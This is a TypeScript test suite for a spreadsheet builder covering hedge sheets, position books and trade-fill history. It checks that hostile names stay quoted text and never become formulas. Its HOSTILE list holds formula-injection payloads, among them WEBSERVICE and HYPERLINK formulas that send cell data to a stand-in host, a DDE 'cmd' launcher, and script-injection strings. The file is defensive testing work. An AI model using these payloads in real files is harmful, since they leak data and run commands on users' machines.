import { bookRow } from "../../src/builder/book/book-rows";
import { bookPlan } from "../../src/builder/book/book-sheet";
import { historyRows } from "../../src/builder/history/history-rows";
import { historyPlan } from "../../src/builder/history/history-sheet";
import type { ContractHistory } from "../../src/history/reading/by-contract";
import { typed } from "../../src/workbook/entry/entered-text";
import { freeSheetName, isSheetName } from "../../src/workbook/sheet-name";
import type { SheetPlan } from "../../src/workbook/sheet-plan";
import { built, draftOf, KINDS } from "../builder/drafts";
import { historyOf } from "../history/read-text";

/** Texts that a spreadsheet, a page or a path would take for something else, if they reached one as they are. */
const INJECTION = '"&WEBSERVICE("https://a.example/"&A1)&"';
const HOSTILE = [
  INJECTION,
  "=1+1",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  '=HYPERLINK("https://a.example/?"&A1,"BTC")',
  "=cmd|' /C calc'!A0",
  '")+(1',
  "'",
  '"',
  "{=1}",
  "<img src=x onerror=alert(1)>",
  "</script><script>alert(1)</script>",
  "\u202eCTB\u0000",
  "[x]'!A1:B2",
  "__proto__",
];
/** No coin of the list of contracts, as none of the others is: the list would fill in what it knows. */
const PLAIN = "XYZ";

const formulasOf = ({ blocks }: SheetPlan): string[] =>
  blocks.flatMap(({ entries }) =>
    entries.flat().flatMap((entry) => (typeof entry === "object" && entry !== null ? [entry.formula] : [])),
  );

const textsOf = ({ blocks }: SheetPlan): string[] =>
  blocks.flatMap(({ entries }) => entries.flat().filter((entry) => typeof entry === "string"));

/** What a spreadsheet computes with: a formula without the texts that it quotes. */
const code = (formula: string) => formula.replaceAll(/"(?:[^"]|"")*"/g, '""');

/** A text of a name and of anything else that a spreadsheet draws, and does not keep as it is given. */
const drawn = ({ charts, blocks }: SheetPlan): string[] =>
  charts.flatMap(({ title, xTitle, yTitle, source, marks = [] }) => {
    const names = blocks.flatMap(({ row, column, entries }) => {
      const across = entries[source.row - row] ?? [];
      return across.slice(Math.max(0, source.column - column), source.column + source.columns - column);
    });
    return [
      title,
      xTitle,
      yTitle,
      ...marks.map(({ name }) => name),
      ...names.filter((name) => typeof name === "string"),
    ];
  });

const STARTS_A_FORMULA = /^[\s'"]*[=+\-@\t\r{|]/u;

/** The plan with a hostile text in it computes what the plan with a plain one does, and begins nothing with it. */
function holds(hostile: SheetPlan, plain: SheetPlan): void {
  expect(formulasOf(hostile).map(code)).toEqual(formulasOf(plain).map(code));
  expect(formulasOf(hostile).filter((formula) => (formula.match(/"/g)?.length ?? 0) % 2 === 1)).toEqual([]);
  const entered = textsOf(hostile).map(typed) as string[];
  expect(entered.filter((text) => STARTS_A_FORMULA.test(text) && !text.startsWith("'"))).toEqual([]);
  expect(drawn(hostile).filter((text) => STARTS_A_FORMULA.test(text))).toEqual([]);
  const name = freeSheetName(hostile.title, []);
  expect(isSheetName(name) && name.length > 0).toBe(true);
  expect(hostile.names).toEqual(plain.names);
}

describe("a coin that is called by what is no coin", () => {
  const planOf = (kind: string, coin: string) => built({ ...KINDS[kind], coin }).plan();
  const plain = planOf("the example", PLAIN);

  test.each(HOSTILE)("%j is text in a hedge sheet, and in no formula but quoted", (coin) =>
    holds(planOf("the example", coin), plain),
  );

  test.each(["target weights", "own prices and rates", "a flipping sign"])("so it is in another kind: %s", (kind) =>
    holds(planOf(kind, INJECTION), planOf(kind, PLAIN)),
  );

  test.each(HOSTILE)("%j is text in the sheet of a book", (coin) => {
    holds(bookOf(coin), bookOf(PLAIN));
  });
});

function bookOf(coin: string): SheetPlan {
  const row = bookRow({ complete: draftOf({ coin }), built: built({ coin }), beta: 1, sheet: undefined });
  if (!row) throw new Error("a hedge that is no row of a book");
  return bookPlan({ rows: [row], move: 0.5, today: "2026-11-20" });
}

describe("a file whose contract is called by what is no contract", () => {
  const HEADING =
    "Time,Currency,Contract,Type,Direction,Quantity,Position,Filled Price,Funding,Fee Paid,Cash Flow,Change,Wallet Balance,Fee Rate,Trade ID,Order ID";
  const ROW =
    "2024-03-01 08:00:00,BTC,BTCUSD,trade,Open Short,1000,-1000,50000,0,0.00001,0,-0.00001,0.99999,0.0005,t1,o1";

  test.each(HOSTILE)("%j is text in the sheet of its fills", async (name) => {
    const history = await historyOf(`${HEADING}\n${ROW}`);
    const rows = historyRows(history.contracts[0] as ContractHistory);
    const plan = (text: string) => historyPlan({ contract: text, source: `${text}.csv`, coin: text, size: 10, rows });
    expect(textsOf(plan(name)).some((text) => text.includes(name))).toBe(true);
    holds(plan(name), plan(PLAIN));
  });
});

describe("the names of sheets", () => {
  test.each(HOSTILE)("%j makes a name that a workbook can have, and formulas quote it", (title) => {
    const name = freeSheetName(title, [title, "Sheet"]);
    expect(isSheetName(name)).toBe(true);
    expect(name).not.toBe("");
  });
});
